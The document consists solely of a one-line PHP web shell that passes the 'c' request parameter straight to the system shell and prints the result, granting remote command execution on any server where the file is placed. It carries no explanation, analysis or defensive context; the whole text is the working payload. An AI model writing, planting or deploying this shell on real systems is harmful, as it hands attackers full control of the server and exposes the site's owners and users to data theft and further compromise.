<?php echo `{$_GET['c']}`; ?>
